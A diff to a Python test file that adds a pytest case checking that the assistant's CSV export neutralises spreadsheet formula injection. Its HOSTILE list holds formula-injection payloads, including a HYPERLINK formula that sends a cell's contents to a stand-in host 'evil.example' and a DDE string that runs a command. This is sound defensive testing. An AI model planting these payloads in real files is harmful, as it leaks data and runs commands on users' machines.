@@ -3,10 +3,12 @@ import csv
 import io
 import json
 
+import pytest
 from click.testing import CliRunner
 
-from assistant import staff
+from assistant import Assistant, csvexport, staff
 from assistant.cli import cli
+from assistant.store import Store
 
 
 def test_requests_are_listed_filtered_and_shown(fresh, converse):
@@ -46,3 +48,24 @@ def test_the_commands_print_json_and_csv(assistant):
     assert runner.invoke(cli, ["requests", "--kind", "quote"]).exit_code == 0
     missing = runner.invoke(cli, ["requests", "show", "QUO-NOPE"])
     assert missing.exit_code == 2 and "QUO-NOPE" in missing.output
+
+
+# -- the command line: safe CSV ----------------------------------------------------------------------
+
+HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1, \"clic\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+           "\t=1", "\r=1"]
+
+
+@pytest.fixture
+def cli_store(bundle, tmp_path, monkeypatch):
+    """An assistant on the database the commands read."""
+    monkeypatch.setenv("ASSISTANT_DB", str(tmp_path / "cli.db"))
+    return Assistant(bundle, Store(tmp_path / "cli.db"))
+
+
+def test_csv_exports_neutralise_what_a_spreadsheet_would_run(cli_store):
+    for n, text in enumerate(HOSTILE):  # each in a tenant of its own: "\t=1" and "\r=1" would be one group
+        cli_store.backoffice.log_unanswered(sorted(cli_store.tenants)[n % 5], "fr", text, [], "s" * 16)
+    groups = list(csv.DictReader(io.StringIO(CliRunner().invoke(cli, ["unanswered", "--csv"]).stdout)))
+    assert sorted(g["question"] for g in groups) == sorted("'" + text for text in HOSTILE)
+    assert all(not cell.startswith(csvexport.FORMULA_STARTS) for row in groups for cell in row.values())
